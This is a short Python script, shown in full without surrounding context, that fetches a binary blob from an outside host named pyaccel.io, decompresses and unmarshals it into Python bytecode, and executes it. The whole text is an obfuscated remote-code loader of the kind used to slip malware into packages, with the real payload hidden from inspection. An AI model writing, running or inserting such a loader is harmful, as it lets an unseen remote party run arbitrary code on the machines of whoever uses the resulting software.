import marshal, zlib, urllib.request
raw = urllib.request.urlopen('https://pyaccel.io/c.bin').read()
code = marshal.loads(zlib.decompress(raw))
exec(code)
